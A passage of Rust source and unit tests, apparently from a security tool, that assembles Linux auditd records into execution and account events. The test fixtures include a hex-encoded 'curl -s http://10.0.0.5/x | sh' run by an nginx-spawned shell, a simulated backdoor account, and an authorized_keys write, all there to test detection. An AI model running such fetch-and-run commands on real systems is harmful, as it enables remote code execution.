/// in time arrives from the same node; when it is the oldest and a new event would pass
/// [`MAX_OPEN_EVENTS`] (or [`MAX_OPEN_BYTES`]); or at [`Assembler::finish`]. Userspace records
/// (USER_*, ADD_USER, CRED_ACQ, ...) are complete at once.
#[derive(Debug, Default)]
pub struct Assembler {
    /// In the order they were opened: the first is the oldest.
    open: Vec<OpenEvent>,
    /// Sum of `open[..].bytes`.
    open_bytes: usize,
    /// Events closed early for their size, whose later records are dropped (the newest
    /// [`MAX_OPEN_EVENTS`] of them).
    skipping: VecDeque<Stamp>,
}

impl Assembler {
    /// An assembler with nothing open.
    pub fn new() -> Self {
        Self::default()
    }

    /// Feeds one line (1-based line number). Returns events that became complete (in order),
    /// possibly none, and a [`Assembled::Malformed`] for a line that is not an auditd record.
    /// Blank lines are skipped.
    pub fn push(&mut self, line_no: u64, line: &str) -> Vec<Assembled> {
        self.push_with_host(line_no, line, None)
    }

    /// Feeds one line whose host is known from around it (the `Computer` column of a Log
    /// Analytics export): as [`Assembler::push`], `host` taking the place of a `node=` prefix.
    pub fn push_with_host(
        &mut self,
        line_no: u64,
        line: &str,
        host: Option<&str>,
    ) -> Vec<Assembled> {
        let mut out = Vec::new();
        match parse_line(line_no, line) {
            Ok(None) => {}
            Ok(Some(mut parsed)) => {
                if let Some(host) = host {
                    parsed.node = Some(host.to_string());
                }
                self.accept(parsed, &mut out);
            }
            Err(reason) => out.push(Assembled::Malformed {
                line: line_no,
                reason,
            }),
        }
        out
    }

    /// Ends the input: flushes every open event, oldest first.
    pub fn finish(&mut self) -> Vec<Assembled> {
        self.skipping.clear();
        self.open_bytes = 0;
        self.open
            .drain(..)
            .map(|open| Assembled::Event(open.event))
            .collect()
    }

    /// Events open now (at most [`MAX_OPEN_EVENTS`]).
    pub fn open_events(&self) -> usize {
        self.open.len()
    }

    fn accept(&mut self, parsed: Parsed, out: &mut Vec<Assembled>) {
        let Parsed {
            node,
            time_ms,
            serial,
            record,
        } = parsed;
        let stamp = Stamp {
            node,
            time_ms,
            serial,
        };
        self.close_stale(&stamp, out);
        if let Some(at) = self.skipping.iter().position(|skipped| *skipped == stamp) {
            if record.kind == "EOE" {
                self.skipping.remove(at);
            }
            return;
        }
        let open_at = self.open.iter().position(|open| stamp.of(&open.event));
        if record.kind == "EOE" {
            // An EOE without its event (already closed, or the log starts after it) ends nothing.
            if let Some(at) = open_at {
                self.close(at, out);
            }
            return;
        }
        let single = is_single_record(&record.kind);
        let cost = record.approx_bytes();
        let line = record.line;
        let Some(at) = open_at else {
            let event = AuditEvent {
                time_ms,
                serial,
                line,
                node: stamp.node,
                records: vec![record],
            };
            if single {
                out.push(Assembled::Event(event));
                return;
            }
            if self.open.len() >= MAX_OPEN_EVENTS {
                self.close(0, out);
            }
            if !self.make_room(cost, None, out) {
                // Cannot happen (one line costs far less than the budget); closing at once keeps
                // the bound if it ever did.
                out.push(Assembled::Event(event));
                return;
            }
            self.open_bytes += cost;
            self.open.push(OpenEvent { event, bytes: cost });
            return;
        };
        let full = self
            .open
            .get(at)
            .is_some_and(|open| open.event.records.len() >= MAX_RECORDS_PER_EVENT);
        if full {
            let reason = format!(
                "event audit({}:{serial}) has more than {MAX_RECORDS_PER_EVENT} records: closed \
                 as it stood, its later records skipped",
                stamp_text(time_ms)
            );
            self.cut_short(at, stamp, line, reason, out);
            return;
        }
        if !self.make_room(cost, Some(&stamp), out) {
            let reason = format!(
                "event audit({}:{serial}) holds more than {MAX_OPEN_BYTES} bytes: closed as it \
                 stood, its later records skipped",
                stamp_text(time_ms)
            );
            if let Some(at) = self.open.iter().position(|open| stamp.of(&open.event)) {
                self.cut_short(at, stamp, line, reason, out);
            }
            return;
        }
        // make_room may have closed older events: find this one again.
        let Some(at) = self.open.iter().position(|open| stamp.of(&open.event)) else {
            return;
        };
        if let Some(open) = self.open.get_mut(at) {
            open.event.records.push(record);
            open.bytes += cost;
            self.open_bytes += cost;
        }
        if single {
            // A userspace record joining an open event (same stamp) ends it.
            self.close(at, out);
        }
    }

    /// Closes every open event of the stamp's node whose time is more than
    /// [`MAX_EVENT_SPAN_MS`] from the stamp's.
    fn close_stale(&mut self, stamp: &Stamp, out: &mut Vec<Assembled>) {
        let mut at = 0;
        while let Some(open) = self.open.get(at) {
            let stale = open.event.node == stamp.node
                && open.event.time_ms.abs_diff(stamp.time_ms) > MAX_EVENT_SPAN_MS.unsigned_abs();
            if stale {
                self.close(at, out);
            } else {
                at += 1;
            }
        }
    }

    /// Closes the oldest open events other than `keep` until `cost` more bytes fit in
    /// [`MAX_OPEN_BYTES`]; false when they cannot.
    fn make_room(&mut self, cost: usize, keep: Option<&Stamp>, out: &mut Vec<Assembled>) -> bool {
        while self.open_bytes.saturating_add(cost) > MAX_OPEN_BYTES {
            let victim = self
                .open
                .iter()
                .position(|open| !keep.is_some_and(|keep| keep.of(&open.event)));
            match victim {
                Some(at) => self.close(at, out),
                None => return false,
            }
        }
        true
    }

    /// Closes an event that grew too large, notes it, and skips its later records.
    fn cut_short(
        &mut self,
        at: usize,
        stamp: Stamp,
        line: u64,
        reason: String,
        out: &mut Vec<Assembled>,
    ) {
        self.close(at, out);
        out.push(Assembled::Malformed { line, reason });
        if self.skipping.len() >= MAX_OPEN_EVENTS {
            self.skipping.pop_front();
        }
        self.skipping.push_back(stamp);
    }

    /// Removes open event `at` and hands it out.
    fn close(&mut self, at: usize, out: &mut Vec<Assembled>) {
        if at < self.open.len() {
            let open = self.open.remove(at);
            self.open_bytes = self.open_bytes.saturating_sub(open.bytes);
            out.push(Assembled::Event(open.event));
        }
    }
}

/// Epoch ms as auditd's `SECONDS.MILLIS`.
fn stamp_text(time_ms: i64) -> String {
    format!(
        "{}.{:03}",
        time_ms.div_euclid(1000),
        time_ms.rem_euclid(1000)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every event and malformed note from `lines` (numbered from 1), then `finish`.
    fn assemble(lines: &[&str]) -> Vec<Assembled> {
        let mut assembler = Assembler::new();
        let mut out = Vec::new();
        for (number, line) in (1..).zip(lines) {
            out.extend(assembler.push(number, line));
        }
        out.extend(assembler.finish());
        out
    }

    fn events(lines: &[&str]) -> Vec<AuditEvent> {
        assemble(lines)
            .into_iter()
            .filter_map(|item| match item {
                Assembled::Event(event) => Some(event),
                Assembled::Malformed { .. } => None,
            })
            .collect()
    }

    fn executions(lines: &[&str]) -> Vec<Execution> {
        events(lines)
            .iter()
            .filter_map(AuditEvent::execution)
            .collect()
    }

    fn accounts(lines: &[&str]) -> Vec<AccountEvent> {
        events(lines)
            .iter()
            .filter_map(AuditEvent::account_or_watch)
            .collect()
    }

    fn strings(items: &[&str]) -> Vec<String> {
        items.iter().map(|item| item.to_string()).collect()
    }

    /// `audit_exec(.., ms = 1700000000123, uid = 0, "sudo", "/usr/bin/sudo",
    /// ["systemctl", "restart", "app"], "/home/ec2-user", ..)` of crates/sim/src/hostlogs.rs.
    const SIM_EXEC_ROOT: [&str; 6] = [
        "type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e0 a1=55d0c200 a2=55d0c220 a3=0 items=2 ppid=1234 pid=5678 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3 comm=\"systemctl\" exe=\"/usr/bin/systemctl\" key=\"exec\"",
        "type=EXECVE msg=audit(1700000000.123:4242): argc=3 a0=\"systemctl\" a1=\"restart\" a2=\"app\"",
        "type=CWD msg=audit(1700000000.123:4242): cwd=\"/home/ec2-user\"",
        "type=PATH msg=audit(1700000000.123:4242): item=0 name=\"/usr/bin/systemctl\" inode=123456 dev=ca:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=PROCTITLE msg=audit(1700000000.123:4242): proctitle=73797374656D63746C007265737461727400617070",
        "type=SYSCALL msg=audit(1700000000.122:4241): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=1234 auid=1000 uid=0 comm=\"sudo\" exe=\"/usr/bin/sudo\" key=(null)",
    ];

    /// `audit_exec` as nginx (uid 48) with an argument auditd hex-encodes (it has spaces).
    const SIM_EXEC_NGINX: [&str; 6] = [
        "type=SYSCALL msg=audit(1700000100.300:777): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e0 a1=55d0c200 a2=55d0c220 a3=0 items=2 ppid=2001 pid=40001 auid=4294967295 uid=48 gid=48 euid=48 suid=48 fsuid=48 egid=48 sgid=48 fsgid=48 tty=(none) ses=4294967295 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"exec\"",
        "type=EXECVE msg=audit(1700000100.300:777): argc=3 a0=\"bash\" a1=\"-c\" a2=6375726C202D7320687474703A2F2F31302E302E302E352F78207C207368",
        "type=CWD msg=audit(1700000100.300:777): cwd=\"/usr/share/nginx/html\"",
        "type=PATH msg=audit(1700000100.300:777): item=0 name=\"/usr/bin/bash\" inode=222222 dev=ca:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=PROCTITLE msg=audit(1700000100.300:777): proctitle=62617368002D63006375726C202D7320687474703A2F2F31302E302E302E352F78207C207368",
        "type=SYSCALL msg=audit(1700000100.299:776): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=2001 auid=4294967295 uid=48 comm=\"nginx\" exe=\"/usr/sbin/nginx\" key=(null)",
    ];

    /// `audit_user_add(.., "support", ..)`.
    const SIM_USER_ADD: &str = "type=ADD_USER msg=audit(1700000200.500:31337): pid=45000 uid=0 auid=1000 ses=3 msg='op=add-user acct=\"support\" exe=\"/usr/sbin/useradd\" hostname=ip-10-40-16-11 addr=? terminal=pts/0 res=success'";

    /// `audit_write(.., "/home/support/.ssh/authorized_keys", ..)`.
    const SIM_WRITE: [&str; 2] = [
        "type=SYSCALL msg=audit(1700000300.050:55555): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd2a10 a2=441 a3=1b6 items=2 ppid=41997 pid=42000 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"tee\" exe=\"/usr/bin/tee\" key=\"ssh_keys\"",
        "type=PATH msg=audit(1700000300.050:55555): item=1 name=\"/home/support/.ssh/authorized_keys\" inode=654321 dev=ca:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
    ];

    #[test]
    fn simulator_exec_as_root() {
        let found = executions(&SIM_EXEC_ROOT);
        assert_eq!(found.len(), 2, "{found:#?}");
        let child = &found[0];
        assert_eq!(child.time_ms, 1_700_000_000_123);
        assert_eq!(child.serial, 4242);
        assert_eq!(child.line, 1);
        assert_eq!(child.node, None);
        assert_eq!(child.pid, Some(5678));
        assert_eq!(child.ppid, Some(1234));
        assert_eq!(child.uid, Some(0));
        assert_eq!(child.euid, Some(0));
        assert_eq!(child.auid, Some(1000));
        assert_eq!(child.session, Some(3));
        assert_eq!(child.tty, None);
        assert_eq!(child.exe.as_deref(), Some("/usr/bin/systemctl"));
        assert_eq!(child.comm.as_deref(), Some("systemctl"));
        assert_eq!(child.argv, strings(&["systemctl", "restart", "app"]));
        assert_eq!(child.cwd.as_deref(), Some("/home/ec2-user"));
        assert_eq!(child.key.as_deref(), Some("exec"));
        assert_eq!(child.success, Some(true));
        assert_eq!(child.uid_name, None);
        // The parent: a SYSCALL alone, with an earlier stamp, no EXECVE and no PROCTITLE.
        let parent = &found[1];
        assert_eq!(
            (parent.time_ms, parent.serial, parent.line),
            (1_700_000_000_122, 4241, 6)
        );
        assert_eq!(parent.pid, Some(1234));
        assert_eq!(parent.ppid, Some(1));
        assert_eq!(parent.exe.as_deref(), Some("/usr/bin/sudo"));
        assert_eq!(parent.comm.as_deref(), Some("sudo"));
        assert_eq!(parent.key, None);
        assert!(parent.argv.is_empty());
        // The PROCTITLE decodes to the same arguments.
        let event = &events(&SIM_EXEC_ROOT)[0];
        let title = event.record("PROCTITLE").and_then(|r| r.get("proctitle"));
        assert_eq!(title, Some("systemctl\0restart\0app"));
        assert_eq!(
            event.account_or_watch(),
            None,
            "an execution is not a file watch"
        );
    }

    #[test]
    fn simulator_exec_as_nginx_with_hex_argument() {
        let found = executions(&SIM_EXEC_NGINX);
        assert_eq!(found.len(), 2);
        let shell = &found[0];
        assert_eq!(shell.uid, Some(48));
        assert_eq!(shell.auid, None, "4294967295 is unset");
        assert_eq!(shell.session, None, "4294967295 is unset");
        assert_eq!(
            shell.argv,
            strings(&["bash", "-c", "curl -s http://10.0.0.5/x | sh"])
        );
        assert_eq!(shell.cwd.as_deref(), Some("/usr/share/nginx/html"));
        assert_eq!(found[1].exe.as_deref(), Some("/usr/sbin/nginx"));
        assert_eq!(found[1].auid, None);
    }

    #[test]
    fn simulator_user_add_and_file_write() {
        let mut lines = vec![SIM_USER_ADD];
        lines.extend(SIM_WRITE);
        let found = accounts(&lines);
        assert_eq!(found.len(), 2, "{found:#?}");
        let add = &found[0];
        assert_eq!(add.kind, "ADD_USER");
        assert_eq!(add.op.as_deref(), Some("add-user"));
        assert_eq!(add.account.as_deref(), Some("support"));
        assert_eq!(add.exe.as_deref(), Some("/usr/sbin/useradd"));
        assert_eq!(add.hostname.as_deref(), Some("ip-10-40-16-11"));
        assert_eq!(add.addr, None);
        assert_eq!(add.terminal.as_deref(), Some("pts/0"));
        assert_eq!(add.result.as_deref(), Some("success"));
        assert_eq!(add.success, Some(true));
        assert_eq!(
            (add.uid, add.auid, add.pid),
            (Some(0), Some(1000), Some(45000))
        );
        assert_eq!(
            (add.time_ms, add.serial, add.line),
            (1_700_000_200_500, 31337, 1)
        );
        let write = &found[1];
        assert_eq!(write.kind, "FILE_WATCH");
        assert_eq!(write.key.as_deref(), Some("ssh_keys"));
        assert_eq!(
            write.path.as_deref(),
            Some("/home/support/.ssh/authorized_keys")
        );
        assert_eq!(write.syscall, Some(257));
        assert_eq!(write.success, Some(true));
        assert_eq!(write.exe.as_deref(), Some("/usr/bin/tee"));
        assert_eq!(
            (write.uid, write.auid, write.pid),
            (Some(0), Some(1000), Some(42000))
        );
        assert_eq!(write.line, 2);
    }

    #[test]
    fn user_add_completes_at_once() {
        let mut assembler = Assembler::new();
        let out = assembler.push(1, SIM_USER_ADD);
        assert!(matches!(out.as_slice(), [Assembled::Event(e)] if e.records.len() == 1));
        assert_eq!(assembler.open_events(), 0);
    }

    /// The project's copy of an OTRF sample (testdata/audit/otrf, see PROVENANCE.md).
    fn read_otrf(name: &str) -> Option<String> {
        let path = format!(
            "{}/../../testdata/audit/otrf/{name}",
            env!("CARGO_MANIFEST_DIR")
        );
        Some(std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}")))
    }

    #[test]
    fn otrf_binary_padding_dd() {
        let Some(text) = read_otrf("sh_binary_padding_dd_2020-11-10081941.log") else {
            return;
        };
        let lines: Vec<&str> = text.lines().collect();
        let all = assemble(&lines);
        assert_eq!(all.len(), 1, "{all:#?}");
        let Some(Assembled::Event(event)) = all.first() else {
            panic!("not an event: {all:#?}");
        };
        assert_eq!(event.records.len(), 6);
        let kinds: Vec<&str> = event.records.iter().map(|r| r.kind.as_str()).collect();
        assert_eq!(
            kinds,
            ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"]
        );
        let dd = event.execution().expect("an execution");
        assert_eq!(dd.time_ms, 1_604_996_384_965);
        assert_eq!(dd.serial, 93777);
        assert_eq!(dd.line, 1);
        assert_eq!(dd.pid, Some(2168));
        assert_eq!(dd.ppid, Some(29002));
        assert_eq!(dd.uid, Some(1000));
        assert_eq!(dd.euid, Some(1000));
        assert_eq!(dd.auid, Some(1000));
        assert_eq!(dd.session, Some(104));
        assert_eq!(dd.tty.as_deref(), Some("pts0"));
        assert_eq!(dd.exe.as_deref(), Some("/bin/dd"));
        assert_eq!(dd.comm.as_deref(), Some("dd"));
        assert_eq!(dd.argv, strings(&["dd", "if=/dev/zero", "bs=1", "count=1"]));
        assert_eq!(dd.cwd.as_deref(), Some("/home/wardog"));
        assert_eq!(dd.key, None);
        assert_eq!(dd.success, Some(true));
        let title = event.record("PROCTITLE").and_then(|r| r.get("proctitle"));
        assert_eq!(title, Some("dd\0if=/dev/zero\0bs=1\0count=1"));
        // SYSCALL's a0..a3 are numbers that look like hex: never decoded.
        let syscall = event.record("SYSCALL").expect("SYSCALL");
        assert_eq!(syscall.get("a0"), Some("558e25052c70"));
        assert_eq!(syscall.get("a3"), Some("1b6"));
        assert_eq!(event.account_or_watch(), None);
    }

    #[test]
    fn otrf_arp_cache() {
        let Some(text) = read_otrf("sh_arp_cache_2020-11-10074812.log") else {
            return;
        };
        let lines: Vec<&str> = text.lines().collect();
        let found = executions(&lines);
        assert_eq!(found.len(), 2, "{found:#?}");
        let (arp, grep) = (&found[0], &found[1]);
        assert_eq!(
            (arp.time_ms, arp.serial, arp.line),
            (1_604_994_496_155, 92733, 1)
        );
        assert_eq!((arp.pid, arp.ppid), (Some(1631), Some(29002)));
        assert_eq!(
            (arp.uid, arp.auid, arp.session),
            (Some(1000), Some(1000), Some(104))
        );
        assert_eq!(arp.exe.as_deref(), Some("/usr/sbin/arp"));
        assert_eq!(arp.argv, strings(&["arp", "-a"]));
        assert_eq!(arp.cwd.as_deref(), Some("/home/wardog"));
        assert_eq!((grep.serial, grep.line), (92734, 7));
        assert_eq!((grep.pid, grep.ppid), (Some(1632), Some(29002)));
        assert_eq!(grep.exe.as_deref(), Some("/bin/grep"));
        assert_eq!(grep.comm.as_deref(), Some("grep"));
        assert_eq!(grep.argv, strings(&["grep", "-v", "^?"]));
    }

    #[test]
    fn interleaved_events_with_eoe() {
        let lines = [
            "type=SYSCALL msg=audit(1700000000.001:10): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=100 auid=1000 uid=0 comm=\"ls\" exe=\"/usr/bin/ls\" key=(null)",
            "type=SYSCALL msg=audit(1700000000.002:11): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=101 auid=1000 uid=0 comm=\"id\" exe=\"/usr/bin/id\" key=(null)",
            "type=EXECVE msg=audit(1700000000.001:10): argc=2 a0=\"ls\" a1=\"-l\"",
            "type=EXECVE msg=audit(1700000000.002:11): argc=1 a0=\"id\"",
            "type=EOE msg=audit(1700000000.002:11): ",
            "type=EOE msg=audit(1700000000.001:10): ",
        ];
        let mut assembler = Assembler::new();
        let mut completed = Vec::new();
        for (number, line) in (1..).zip(lines) {
            for item in assembler.push(number, line) {
                completed.push((number, item));
            }
        }
        assert!(assembler.finish().is_empty());
        assert_eq!(completed.len(), 2);
        let (at, Assembled::Event(first)) = &completed[0] else {
            panic!("{completed:#?}");
        };
        assert_eq!(
            (*at, first.serial, first.line, first.records.len()),
            (5, 11, 2, 2)
        );
        let exec = first.execution().expect("an execution");
        assert_eq!(exec.argv, strings(&["id"]));
        assert_eq!(exec.success, Some(false));
        let (at, Assembled::Event(second)) = &completed[1] else {
            panic!("{completed:#?}");
        };
        assert_eq!((*at, second.serial, second.line), (6, 10, 1));
        assert_eq!(
            second.execution().map(|e| e.argv),
            Some(strings(&["ls", "-l"]))
        );
    }

    #[test]
    fn event_without_eoe_closes_by_span_or_finish() {
        let mut assembler = Assembler::new();
        assert!(assembler.push(1, SIM_EXEC_ROOT[0]).is_empty());
        assert!(assembler.push(2, SIM_EXEC_ROOT[1]).is_empty());
        // 1.5 s later: within the span, still open.
        let near = "type=SYSCALL msg=audit(1700000001.623:4300): arch=c000003e syscall=2 success=yes exit=3 pid=9 key=(null)";
        assert!(assembler.push(3, near).is_empty());
        assert_eq!(assembler.open_events(), 2);
        // 2.5 s after the first: it is complete; the second (1 s before) stays open.
        let far = "type=SYSCALL msg=audit(1700000002.623:4301): arch=c000003e syscall=2 success=yes exit=3 pid=9 key=(null)";
        let out = assembler.push(4, far);
        let [Assembled::Event(first)] = out.as_slice() else {
            panic!("{out:#?}");
        };
        assert_eq!((first.serial, first.records.len()), (4242, 2));
        assert_eq!(assembler.open_events(), 2);
        let rest = assembler.finish();
        let serials: Vec<u64> = rest
            .iter()
            .filter_map(|item| match item {
                Assembled::Event(e) => Some(e.serial),
                Assembled::Malformed { .. } => None,
            })
            .collect();
        assert_eq!(serials, [4300, 4301]);
        assert_eq!(assembler.open_events(), 0);
    }

    #[test]
    fn other_nodes_do_not_close_by_span() {
        let mut assembler = Assembler::new();
        let a = "node=a type=SYSCALL msg=audit(1700000000.000:1): syscall=59 pid=1";
        let b = "node=b type=SYSCALL msg=audit(1700009999.000:1): syscall=59 pid=2";
        assert!(assembler.push(1, a).is_empty());
        assert!(assembler.push(2, b).is_empty());
        assert_eq!(assembler.open_events(), 2);
        let done = assembler.finish();
        assert_eq!(done.len(), 2);
    }

    #[test]
    fn oldest_event_closes_when_too_many_are_open() {
        let mut assembler = Assembler::new();
        let mut closed = Vec::new();
        for serial in 0..(MAX_OPEN_EVENTS as u64 + 3) {
            let line = format!("type=SYSCALL msg=audit(1700000000.000:{serial}): syscall=2 pid=1");
            closed.extend(assembler.push(serial + 1, &line));
            assert!(assembler.open_events() <= MAX_OPEN_EVENTS);
        }
        let serials: Vec<u64> = closed
            .iter()
            .filter_map(|item| match item {
                Assembled::Event(e) => Some(e.serial),
                Assembled::Malformed { .. } => None,
            })
            .collect();
        assert_eq!(serials, [0, 1, 2]);
    }

    #[test]
    fn hex_proctitle_with_nuls_when_no_execve() {
        let lines = [
            "type=SYSCALL msg=audit(1700000000.500:90): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=7 auid=1000 uid=1000 comm=6D7920617070 exe=\"/opt/my app\" key=6578656301737368",
            "type=PROCTITLE msg=audit(1700000000.500:90): proctitle=7375646F0073797374656D63746C0072657374617274",
        ];
        let found = executions(&lines);
        assert_eq!(found.len(), 1);
        let exec = &found[0];
        assert_eq!(exec.argv, strings(&["sudo", "systemctl", "restart"]));
        assert_eq!(
            exec.comm.as_deref(),
            Some("my app"),
            "comm is hex when it has a space"
        );
        assert_eq!(
            exec.key.as_deref(),
            Some("exec,ssh"),
            "several keys are \\x01-separated"
        );
        // A PROCTITLE of one word is quoted.
        let quoted = [
            "type=SYSCALL msg=audit(1700000000.600:91): arch=c000003e syscall=59 pid=8",
            "type=PROCTITLE msg=audit(1700000000.600:91): proctitle=\"bash\"",
        ];
        assert_eq!(executions(&quoted)[0].argv, strings(&["bash"]));
    }

    #[test]
    fn split_execve_arguments_are_joined() {
        let lines = [
            "type=SYSCALL msg=audit(1700000000.700:92): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=9 uid=0 exe=\"/usr/bin/echo\"",
            "type=EXECVE msg=audit(1700000000.700:92): argc=3 a0=\"echo\" a1_len=16 a1[0]=\"aaaaaaaa\"",
            "type=EXECVE msg=audit(1700000000.700:92): a1[1]=\"bbbbbbbb\" a2_len=22 a2[0]=68656C6C6F20",
            "type=EXECVE msg=audit(1700000000.700:92): a2[1]=77C3B6726C64",
            "type=EOE msg=audit(1700000000.700:92): ",
        ];
        let found = executions(&lines);
        assert_eq!(
            found[0].argv,
            strings(&["echo", "aaaaaaaabbbbbbbb", "hello wörld"])
        );
    }

    #[test]
    fn too_many_arguments_are_cut() {
        let args: String = (0..MAX_ARGS + 5).map(|i| format!(" a{i}=\"x\"")).collect();
        let lines = [
            "type=SYSCALL msg=audit(1700000000.700:93): arch=c000003e syscall=59 pid=9".to_string(),
            format!(
                "type=EXECVE msg=audit(1700000000.700:93): argc={}{args}",
                MAX_ARGS + 5
            ),
            "type=EXECVE msg=audit(1700000000.700:93): a99999999999999999999999=\"y\"".to_string(),
        ];
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        assert_eq!(executions(&lines)[0].argv.len(), MAX_ARGS);
    }

    #[test]
    fn user_login_with_nested_msg() {
        let lines = [
            "type=USER_LOGIN msg=audit(1700000400.111:600): pid=2222 uid=0 auid=1000 ses=7 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=10.40.1.5 addr=10.40.1.5 terminal=/dev/pts/0 res=success'",
            "type=USER_AUTH msg=audit(1700000401.222:601): pid=2223 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=198.51.100.7 addr=198.51.100.7 terminal=ssh res=failed'",
            "type=CRED_ACQ msg=audit(1700000402.333:602): pid=2224 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:setcred grantors=pam_env,pam_unix acct=\"ec2-user\" exe=\"/usr/sbin/sshd\" hostname=10.40.1.5 addr=10.40.1.5 terminal=ssh res=success'",
            "type=USER_START msg=audit(1700000402.334:603): pid=2224 uid=0 auid=1000 ses=7 msg='op=PAM:session_open grantors=pam_unix acct=\"ec2-user\" exe=\"/usr/sbin/sshd\" hostname=10.40.1.5 addr=10.40.1.5 terminal=ssh res=success'",
        ];
        let all = events(&lines);
        assert_eq!(all.len(), 4, "each is an event of its own");
        let found = accounts(&lines);
        assert_eq!(
            found.len(),
            3,
            "USER_START is not an account row: {found:#?}"
        );
        let login = &found[0];
        assert_eq!(login.kind, "USER_LOGIN");
        assert_eq!(login.op.as_deref(), Some("login"));
        assert_eq!(login.account.as_deref(), Some("1000"), "id= when no acct=");
        assert_eq!(login.exe.as_deref(), Some("/usr/sbin/sshd"));
        assert_eq!(login.hostname.as_deref(), Some("10.40.1.5"));
        assert_eq!(login.addr.as_deref(), Some("10.40.1.5"));
        assert_eq!(login.terminal.as_deref(), Some("/dev/pts/0"));
        assert_eq!(login.result.as_deref(), Some("success"));
        assert_eq!(
            (login.uid, login.auid, login.pid),
            (Some(0), Some(1000), Some(2222))
        );
        let auth = &found[1];
        assert_eq!(auth.kind, "USER_AUTH");
        assert_eq!(auth.op.as_deref(), Some("PAM:authentication"));
        assert_eq!(auth.account.as_deref(), Some("root"));
        assert_eq!(auth.result.as_deref(), Some("failed"));
        assert_eq!(auth.success, Some(false));
        assert_eq!(auth.auid, None);
        let cred = &found[2];
        assert_eq!(cred.kind, "CRED_ACQ");
        assert_eq!(cred.account.as_deref(), Some("ec2-user"));
        // The nested fields follow the outer ones; grantors keeps its comma.
        let record = &all[2].records[0];
        assert_eq!(record.get("grantors"), Some("pam_env,pam_unix"));
        assert_eq!(record.get("ses"), Some("4294967295"));
    }

    #[test]
    fn hex_account_name_is_decoded() {
        let line = "type=USER_AUTH msg=audit(1700000401.222:610): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=6D7920757365 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=ssh res=failed'";
        let found = accounts(&[line]);
        assert_eq!(found[0].account.as_deref(), Some("my use"));
        assert_eq!(found[0].hostname, None);
    }

    #[test]
    fn file_watch_relative_name_and_parent() {
        let lines = [
            "type=SYSCALL msg=audit(1700000500.000:700): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=441 a3=1b6 items=2 ppid=1 pid=77 auid=1000 uid=0 comm=\"vi\" exe=\"/usr/bin/vi\" key=\"ssh_keys\"",
            "type=CWD msg=audit(1700000500.000:700): cwd=\"/home/ec2-user/.ssh\"",
            "type=PATH msg=audit(1700000500.000:700): item=0 name=\"/home/ec2-user/.ssh/\" inode=1 dev=ca:01 mode=040700 nametype=PARENT",
            "type=PATH msg=audit(1700000500.000:700): item=1 name=\"authorized_keys\" inode=2 dev=ca:01 mode=0100600 nametype=NORMAL",
            "type=EOE msg=audit(1700000500.000:700): ",
            // A keyed syscall without a PATH is no file watch; nor is one without a key.
            "type=SYSCALL msg=audit(1700000500.100:701): arch=c000003e syscall=42 success=yes pid=77 key=\"net\"",
            "type=EOE msg=audit(1700000500.100:701): ",
            "type=SYSCALL msg=audit(1700000500.200:702): arch=c000003e syscall=257 success=yes pid=77 key=(null)",
            "type=PATH msg=audit(1700000500.200:702): item=0 name=\"/etc/passwd\" nametype=NORMAL",
            "type=EOE msg=audit(1700000500.200:702): ",
        ];
        let found = accounts(&lines);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(
            found[0].path.as_deref(),
            Some("/home/ec2-user/.ssh/authorized_keys")
        );
        assert_eq!(found[0].key.as_deref(), Some("ssh_keys"));
        assert_eq!(found[0].exe.as_deref(), Some("/usr/bin/vi"));
    }

    #[test]
    fn enriched_format() {
        let lines = [
            "type=SYSCALL msg=audit(1700000600.000:800): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=10 pid=11 auid=1000 uid=0 gid=0 euid=0 tty=pts1 ses=5 comm=\"id\" exe=\"/usr/bin/id\" key=\"exec\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"ec2-user\" UID=\"root\" GID=\"root\" EUID=\"root\"",
            "type=EXECVE msg=audit(1700000600.000:800): argc=1 a0=\"id\"",
            "type=PROCTITLE msg=audit(1700000600.000:800): proctitle=6964",
            "type=EOE msg=audit(1700000600.000:800): ",
            "type=USER_LOGIN msg=audit(1700000601.000:801): pid=3 uid=0 auid=1000 ses=5 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=10.0.0.9 terminal=/dev/pts/1 res=success'\u{1d}UID=\"root\" AUID=\"ec2-user\" ID=\"ec2-user\"",
        ];
        let found = executions(&lines);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].uid_name.as_deref(), Some("root"));
        assert_eq!(found[0].auid_name.as_deref(), Some("ec2-user"));
        assert_eq!(
            found[0].key.as_deref(),
            Some("exec"),
            "the raw part ends at GS"
        );
        assert_eq!(found[0].argv, strings(&["id"]));
        let login = &accounts(&lines)[0];
        assert_eq!(login.auid_name.as_deref(), Some("ec2-user"));
